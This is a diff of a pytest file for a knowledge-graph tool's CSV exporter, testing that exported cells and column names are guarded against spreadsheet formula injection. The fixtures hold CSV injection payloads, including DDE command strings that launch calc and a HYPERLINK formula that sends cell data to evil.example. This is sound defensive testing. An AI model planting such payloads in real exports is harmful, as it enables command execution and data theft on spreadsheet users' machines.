@@ -13,13 +13,13 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner, Result
 
-from kgraph.cli import console
-from kgraph.cli import app
+from kgraph.cli import app, console
 from kgraph.exporters.csv import guard, unguard
 
 runner = CliRunner()
 
-# a schema of its own: an attribute whose *name* is a formula, and numeric attributes
+# a schema of its own, with numeric attributes (attribute *names* are identifiers, checked
+# by the schema; a formula-like column name from a graph built in Python is tested below)
 DATA = {
     "schema.yaml": """\
 entity_types:
@@ -29,7 +29,7 @@ entity_types:
       code: string
       delta: integer
       ratio: number
-      "=evil()": string
+      evil: string
 relation_types:
   linked_to:
     source: [widget]
@@ -53,7 +53,7 @@ entities:
     code: "\\t=1+1"
     delta: -5
     ratio: -1.5
-    "=evil()": "\\r=2+2"
+    evil: "\\r=2+2"
     notes: "'=already quoted"
     source: memo
     quote: w1
@@ -139,7 +139,7 @@ def test_guard_and_unguard(value: str, cell: str) -> None:
 
 def test_csv_cells_are_guarded_by_default(data: Path, tmp_path: Path) -> None:
     out = tmp_path / "csv"
-    result = export("csv", "-o", str(out), "--data", str(data))
+    result = export("csv", "-o", str(out), "--data", str(data), "--with-notes")
     assert result.exit_code == 0, result.output
     files = read(out)
     nodes = {r["id"]: r for r in table(files["nodes.csv"])}
@@ -148,7 +148,7 @@ def test_csv_cells_are_guarded_by_default(data: Path, tmp_path: Path) -> None:
     assert w1["description"] == HOSTILE["-2+3+cmd|' /C calc'!A0"]
     assert w1["code"] == HOSTILE["\t=1+1"]
     assert w1["notes"] == HOSTILE["'=already quoted"]
-    assert w1["'=evil()"] == HOSTILE["\r=2+2"]  # the column name is guarded too
+    assert w1["evil"] == HOSTILE["\r=2+2"]
     assert json.loads(w1["aliases"]) == ["+1+2", "plain"]  # JSON starts with '['
     assert (w1["delta"], w1["ratio"]) == ("-5", "-1.5")  # numbers stay numbers
     assert w2["name"] == "Plain name, with a comma" and w2["code"] == "1-2"
@@ -165,8 +165,6 @@ def test_csv_cells_are_guarded_by_default(data: Path, tmp_path: Path) -> None:
             for cell in row:
                 assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or is_number(cell)
     package = json.loads(files["datapackage.json"])
-    fields = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
-    assert "'=evil()" in fields and "=evil()" not in fields
     fields_by_name = {f["name"]: f["type"] for f in package["resources"][0]["schema"]["fields"]}
     assert fields_by_name["delta"] == "integer" and fields_by_name["ratio"] == "number"
     # every guarded cell reads back as the data's value
@@ -174,14 +172,14 @@ def test_csv_cells_are_guarded_by_default(data: Path, tmp_path: Path) -> None:
     assert unguard(w1["notes"]) == "'=already quoted"
 
     zipped = tmp_path / "csv.zip"
-    assert export("csv", "-o", str(zipped), "--data", str(data)).exit_code == 0
+    assert export("csv", "-o", str(zipped), "--data", str(data), "--with-notes").exit_code == 0
     with zipfile.ZipFile(zipped) as z:
         assert {n: z.read(n).decode("utf-8") for n in z.namelist()} == files
 
 
 def test_raw_csv_writes_the_values_as_they_are(data: Path, tmp_path: Path) -> None:
     out = tmp_path / "raw"
-    result = export("csv", "-o", str(out), "--data", str(data), "--raw-csv")
+    result = export("csv", "-o", str(out), "--data", str(data), "--raw-csv", "--with-notes")
     assert result.exit_code == 0, result.output
     files = read(out)
     nodes = {r["id"]: r for r in table(files["nodes.csv"])}
@@ -189,12 +187,33 @@ def test_raw_csv_writes_the_values_as_they_are(data: Path, tmp_path: Path) -> No
     assert w1["name"] == '=HYPERLINK("http://evil.example/?x="&A1, "click")'
     assert w1["description"] == "-2+3+cmd|' /C calc'!A0"
     assert w1["code"] == "\t=1+1"
-    assert w1["=evil()"] == "\r=2+2"
+    assert w1["evil"] == "\r=2+2"
     assert w1["notes"] == "'=already quoted"
     (source,) = table(files["sources.csv"])
     assert source["title"] == "=cmd|' /C calc'!A0"
-    package = json.loads(files["datapackage.json"])
-    assert "=evil()" in [f["name"] for f in package["resources"][0]["schema"]["fields"]]
+
+
+def test_column_names_are_guarded_too(tmp_path: Path) -> None:
+    """Attribute names from a schema are identifiers; a graph built in Python may hold any
+    name, and a formula-like one is guarded in the header and the data package."""
+    import networkx as nx
+
+    from kgraph.api import KnowledgeGraph
+    from kgraph.exporters import export as write
+    from kgraph.schema import Schema
+
+    g = nx.MultiDiGraph()
+    g.add_node("w1", type="widget", name="w", **{"=evil()": "\r=2+2"})
+    kg = KnowledgeGraph(g, Schema(), {})
+    write(kg, "csv", tmp_path / "guarded")
+    (w1,) = table((tmp_path / "guarded" / "nodes.csv").read_bytes().decode())
+    assert w1["'=evil()"] == "'\r=2+2"
+    package = json.loads((tmp_path / "guarded" / "datapackage.json").read_text())
+    fields = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
+    assert "'=evil()" in fields and "=evil()" not in fields
+    write(kg, "csv", tmp_path / "raw", raw=True)
+    (w1,) = table((tmp_path / "raw" / "nodes.csv").read_bytes().decode())
+    assert w1["=evil()"] == "\r=2+2"
 
 
 def test_neo4j_csvs_stay_raw(data: Path, tmp_path: Path) -> None:
